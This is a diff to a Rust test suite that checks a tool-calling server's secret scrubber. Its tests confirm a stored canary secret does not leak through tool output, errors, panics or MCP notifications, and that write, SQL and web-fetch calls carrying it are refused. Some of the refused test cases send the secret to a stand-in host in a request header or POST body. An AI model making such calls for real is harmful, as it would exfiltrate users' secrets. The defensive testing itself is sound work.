@@ -2,12 +2,17 @@
 
 use super::builtin::Room;
 use base64::Engine as _;
+use conductor::doors::mcp::Shared;
+use conductor::pipeline::call::LogLevel;
 use conductor::secrets::{Scrubber, on_panic};
 use conductor::studio::Settings;
 use conductor::tools::catalog::{Definition, Tool};
 use conductor_core::error::{Code, Subject, ToolError};
+use conductor_core::pending::Kind;
 use conductor_core::policy::Tier;
+use conductor_testkit::line_client::LineClient;
 use serde_json::{Value, json};
+use std::collections::BTreeMap;
 use std::process::Command;
 
 const CANARY: &str = "canary-7f3a\"91/+x";
@@ -32,11 +37,14 @@ fn leaks(text: &str) -> Vec<String> {
     spellings(CANARY).into_iter().filter(|it| text.contains(it.as_str())).collect()
 }
 
-/// A tool that throws what it is given in every direction.
+/// A tool that throws what it knows in every direction.
 fn parrot() -> Definition {
     let mut definition = Definition::new("parrot", Tier::HardwareIo, "test", |_, leave, arguments: Value| async move {
-        let said = arguments["say"].as_str().unwrap_or_default().to_owned();
+        let said = CANARY.to_owned();
         leave.report(1.0, None, &said);
+        if let Some(progress) = leave.progress() {
+            progress.log(LogLevel::Error, &said);
+        }
         match arguments["how"].as_str() {
             Some("panic") => panic!("parrot: {said}"),
             Some("error") => Err(ToolError::new(Code::Internal, format!("it said {said}"))
@@ -67,10 +75,12 @@ async fn a_secret_comes_out_of_no_call() {
         std::fs::write(room.path("note.txt"), format!("the word is {CANARY}\n")).unwrap();
         let mut out = String::new();
         for (tool, arguments) in [
+            ("parrot", json!({})),
+            ("parrot", json!({ "how": "error" })),
+            ("parrot", json!({ "how": "panic" })),
             ("parrot", json!({ "say": CANARY })),
-            ("parrot", json!({ "say": CANARY, "how": "error" })),
-            ("parrot", json!({ "say": CANARY, "how": "panic" })),
             ("parrot", json!({ "say": [CANARY] })),
+            ("parrot", json!({ CANARY: 1 })),
             (CANARY, json!({ "say": CANARY })),
             ("filesystem.read", json!({ "path": "note.txt" })),
             ("filesystem.read", json!({ "path": "note.txt", "encoding": "base64" })),
@@ -123,13 +133,81 @@ fn dump(folder: &std::path::Path, out: &mut String) {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn a_secret_is_not_written_to_a_file_by_a_tool() {
+async fn a_tool_with_an_effect_is_not_given_a_secret_in_any_spelling() {
     let room = Room::new("[tools.filesystem]\nroots = [{ name = \"studio\", path = \"STUDIO\", write = true }]\n");
+    let write = |content: &str| json!({ "path": "x", "content": content });
+    let coded = |text: &str| {
+        let content = base64::engine::general_purpose::STANDARD.encode(text);
+        json!({ "path": "x", "content": content, "encoding": "base64" })
+    };
+    // Negative control: while it is no secret, a person is asked, and the file is written.
+    room.agreed("filesystem.write", write(CANARY)).await.unwrap();
+    assert_eq!(std::fs::read_to_string(room.path("x")).unwrap(), CANARY);
+    std::fs::remove_file(room.path("x")).unwrap();
     room.secrets.set("bird", CANARY, vec![], true).unwrap();
-    let refused =
-        room.agreed("filesystem.write", json!({ "path": "x", "content": format!("a {CANARY}") })).await.unwrap_err();
-    assert_eq!(refused.code, Code::Denied);
+    let attempts = [
+        ("filesystem.write", write(&format!("a {CANARY}"))),
+        ("filesystem.write", coded(CANARY)),
+        ("filesystem.write", coded(&format!("a {CANARY}"))),
+        ("filesystem.write", coded(&format!("ab {CANARY} c"))),
+        ("filesystem.write", json!({ "path": CANARY, "content": "" })),
+        ("database.execute", json!({ "sql": "CREATE TABLE t AS SELECT ?1 AS a", "params": [CANARY] })),
+        ("web.fetch", json!({ "url": "https://x.example/", "headers": { "x": CANARY } })),
+        ("web.fetch", json!({ "url": "https://x.example/", "method": "POST", "body": spellings(CANARY)[2] })),
+    ];
+    for (tool, arguments) in attempts {
+        let refused = room.call(tool, arguments.clone()).await.unwrap_err();
+        assert_eq!(refused.code, Code::Denied, "{tool} {arguments}: nobody is asked either");
+        assert!(refused.message.contains("stored secret"), "{refused:?}");
+    }
     assert!(!room.path("x").exists());
+    let asked = room.studio.studio.desk.store().read(|pending| pending.iter().filter(|it| it.kind == Kind::Call).count());
+    assert_eq!(asked, 1, "the question of the negative control alone");
+}
+
+/// What reaches an MCP client beside the answers: progress, log messages, and which resource changed.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_secret_comes_out_of_no_notification() {
+    for known in [true, false] {
+        let room = Room::new("");
+        room.studio.studio.edit_catalog(|catalog| catalog.add(Tool::new(parrot()).unwrap()).unwrap());
+        if known {
+            room.secrets.set("bird", CANARY, vec![], true).unwrap();
+        }
+        let uri = format!("patch://{CANARY}");
+        let mut client = LineClient::connect(&Shared::new(&room.studio.studio));
+        client.initialize().await;
+        client.request("logging/setLevel", json!({ "level": "debug" })).await;
+        client.request("resources/subscribe", json!({ "uri": uri })).await;
+        let mut heard: BTreeMap<String, String> = BTreeMap::new();
+        for how in ["say", "error", "panic"] {
+            room.studio.studio.hub.uri_changed(&uri);
+            let params = json!({ "name": "parrot", "arguments": { "how": how }, "_meta": { "progressToken": how } });
+            let id = client.start("tools/call", params).await;
+            loop {
+                let message = client.next().await;
+                let kind = message["method"].as_str().unwrap_or(how).to_owned();
+                heard.entry(kind).or_default().push_str(&message.to_string());
+                if message["id"] == id {
+                    break;
+                }
+            }
+        }
+        while !heard.contains_key("notifications/resources/updated") {
+            let message = client.next().await;
+            heard
+                .entry(message["method"].as_str().unwrap_or_default().to_owned())
+                .or_default()
+                .push_str(&message.to_string());
+        }
+        for kind in
+            ["notifications/progress", "notifications/message", "notifications/resources/updated", "say", "error"]
+        {
+            assert_eq!(leaks(&heard[kind]).is_empty(), known, "{kind}: {}", heard[kind]);
+            assert_eq!(heard[kind].contains("[secret:bird]"), known, "{kind}: {}", heard[kind]);
+        }
+        assert!(leaks(&heard["panic"]).is_empty(), "a panic is told without its words: {}", heard["panic"]);
+    }
 }
 
 /// Run by the test below in a process of its own: a panic hook belongs to a whole process.
